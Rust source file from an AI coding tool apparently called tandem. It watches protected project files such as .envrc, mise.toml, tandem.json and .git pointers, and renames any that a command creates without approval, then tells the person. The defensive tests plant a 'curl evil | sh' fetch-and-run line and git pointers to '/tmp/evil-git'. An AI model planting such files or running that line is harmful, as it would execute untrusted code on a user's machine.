//! The project's protected root entries (`tandem.json`, `.tandem/`, `.envrc`, `mise.toml` …)
//! around a step's calls: one a command created without the person's say-so (through an
//! interpreter the rules cannot read, where the sandbox's read-only mounts cannot reach a path
//! that did not exist yet) is set aside under a name nothing obeys, and the person is told.
//! Nothing is deleted: the person may have made it by hand meanwhile.

use std::path::{Path, PathBuf};

use crate::permission::protected::AT_PROJECT_ROOT;

/// Names a session opened in a subfolder (or direnv entering it) obeys there as at the root:
/// watched one level down too.
const IN_SUBFOLDERS: [&str; 8] = [
    "tandem.json",
    "tandem.jsonc",
    ".tandem",
    "opencode.json",
    ".opencode",
    ".envrc",
    "mise.toml",
    ".claude/settings.json",
];

/// Files git obeys inside its directory that point it elsewhere (another directory's hooks
/// and config): never there in a plain repository.
const GIT_POINTERS: [&str; 2] = [".git/commondir", ".git/config.worktree"];

/// Which protected entries were absent when a turn began, and which were symlinks leading
/// nowhere yet; kept for the whole turn (a background job may write between steps).
#[derive(Debug, Clone)]
pub(in crate::session) struct RootWatch {
    root: PathBuf,
    absent: Vec<String>,
    /// Entries that are symlinks whose target does not exist (yet): `(entry, target)`.
    dangling: Vec<(String, PathBuf)>,
}

fn exists(path: &Path) -> bool {
    std::fs::symlink_metadata(path).is_ok()
}

impl RootWatch {
    pub fn take(root: &Path) -> Self {
        let mut candidates: Vec<String> = AT_PROJECT_ROOT
            .iter()
            // `.git/hooks` and `.git/config` come and go with the repository itself, and an
            // editor makes its own folder when it opens the project, turn or not.
            .filter(|entry| !entry.starts_with(".git/"))
            .filter(|entry| !matches!(**entry, ".vscode" | ".zed" | ".idea" | ".devcontainer"))
            .map(|entry| (*entry).to_owned())
            .collect();
        if root.join(".git").is_dir() {
            candidates.extend(GIT_POINTERS.iter().map(|p| (*p).to_owned()));
        } else {
            // A `.git` file (`gitdir: …`) points git at another directory's hooks and config.
            candidates.push(".git".to_owned());
        }
        for folder in subfolders(root) {
            candidates.extend(IN_SUBFOLDERS.iter().map(|n| format!("{folder}/{n}")));
        }
        let absent = candidates
            .iter()
            .filter(|entry| !exists(&root.join(entry)))
            .cloned()
            .collect();
        let dangling = candidates
            .into_iter()
            .filter_map(|entry| {
                let link = root.join(&entry);
                let target = std::fs::read_link(&link).ok()?;
                let target = link.parent().unwrap_or(root).join(target);
                (!target.exists()).then_some((entry, target))
            })
            .collect();
        Self {
            root: root.to_path_buf(),
            absent,
            dangling,
        }
    }

    /// Sets aside each entry that appeared since `take` (renamed to `<entry>.set-aside-by-tandem`)
    /// unless the person approved writing it (or something inside it) this turn, and each
    /// symlink whose target has appeared since; returns the entries set aside.
    pub fn set_aside_new(&self, approved: &[String]) -> Vec<String> {
        let appeared = self.absent.iter().filter(|entry| {
            let path = self.root.join(entry);
            // A repository made meanwhile (`git init`) is a folder; a pointer is not.
            exists(&path) && !(entry.as_str() == ".git" && path.is_dir() && !path.is_symlink())
        });
        let filled = self
            .dangling
            .iter()
            .filter(|(entry, target)| exists(target) && exists(&self.root.join(entry)))
            .map(|(entry, _)| entry);
        let mut moved = Vec::new();
        for entry in appeared.chain(filled) {
            let allowed = approved
                .iter()
                .any(|a| a == entry || a.starts_with(&format!("{entry}/")));
            if allowed {
                continue;
            }
            let path = self.root.join(entry);
            let aside = (0..100)
                .map(|n| match n {
                    0 => format!("{}.{SUFFIX}", path.display()),
                    n => format!("{}.{SUFFIX}.{n}", path.display()),
                })
                .map(PathBuf::from)
                .find(|p| !exists(p));
            match aside.map(|to| std::fs::rename(&path, to)) {
                Some(Ok(())) => moved.push(entry.clone()),
                Some(Err(error)) => {
                    tracing::warn!(%error, path = %path.display(), "cannot set aside")
                }
                None => tracing::warn!(path = %path.display(), "no free name to set it aside"),
            }
        }
        moved
    }
}

/// Tells the person (and the log) what was set aside, if anything.
pub(in crate::session) fn tell(
    writer: &super::writer::PartWriter,
    session: &crate::id::SessionId,
    moved: Vec<String>,
) {
    if moved.is_empty() {
        return;
    }
    tracing::warn!(
        ?moved,
        "set aside protected files a command created unasked"
    );
    writer.publish(crate::bus::Event::ProtectedSetAside {
        session_id: session.clone(),
        paths: moved,
    });
}

/// The project's folders one level down (not hidden ones, not dependency or build folders),
/// at most 200.
fn subfolders(root: &Path) -> Vec<String> {
    const SKIP: [&str; 4] = ["node_modules", "target", "vendor", "dist"];
    let Ok(entries) = std::fs::read_dir(root) else {
        return Vec::new();
    };
    entries
        .flatten()
        .filter(|e| e.file_type().is_ok_and(|t| t.is_dir()))
        .filter_map(|e| e.file_name().to_str().map(str::to_owned))
        .filter(|name| !name.starts_with('.') && !SKIP.contains(&name.as_str()))
        .take(200)
        .collect()
}

/// What a set-aside entry's name ends with.
pub(in crate::session) const SUFFIX: &str = "set-aside-by-tandem";

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_appeared_unapproved_goes_and_what_was_there_or_approved_stays() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        std::fs::write(root.join("tandem.json"), "{}").unwrap();
        let watch = RootWatch::take(root);
        std::fs::create_dir_all(root.join(".tandem/agent")).unwrap();
        std::fs::write(root.join(".tandem/agent/x.md"), "evil").unwrap();
        std::fs::write(root.join(".envrc"), "evil").unwrap();
        std::fs::write(root.join("opencode.json"), "{}").unwrap();
        let moved = watch.set_aside_new(&["opencode.json".to_owned()]);
        assert_eq!(moved, [".tandem", ".envrc"]);
        assert!(!root.join(".tandem").exists() && !root.join(".envrc").exists());
        assert!(root.join(".tandem.set-aside-by-tandem/agent/x.md").exists());
        assert!(root.join(".envrc.set-aside-by-tandem").exists());
        assert!(root.join("tandem.json").exists() && root.join("opencode.json").exists());
    }

    #[test]
    fn git_pointers_subfolder_configs_and_filled_links_are_set_aside() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
        std::fs::create_dir_all(root.join("app")).unwrap();
        let target = root.join("elsewhere");
        std::os::unix::fs::symlink(&target, root.join(".envrc")).unwrap();
        let watch = RootWatch::take(root);
        std::fs::write(root.join(".git/commondir"), "/tmp/evil-git").unwrap();
        std::fs::write(root.join("app/opencode.json"), "{}").unwrap();
        std::fs::write(&target, "curl evil | sh").unwrap();
        let mut moved = watch.set_aside_new(&[]);
        moved.sort();
        assert_eq!(moved, [".envrc", ".git/commondir", "app/opencode.json"]);
        assert!(root.join(".git/commondir.set-aside-by-tandem").exists());
    }

    #[test]
    fn a_git_pointer_file_is_set_aside_and_a_new_repository_is_not() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        let watch = RootWatch::take(root);
        std::fs::write(root.join(".git"), "gitdir: /tmp/evil-git\n").unwrap();
        assert_eq!(watch.set_aside_new(&[]), [".git"]);
        std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
        assert!(watch.set_aside_new(&[]).is_empty());
        assert!(root.join(".git").is_dir());
    }
}
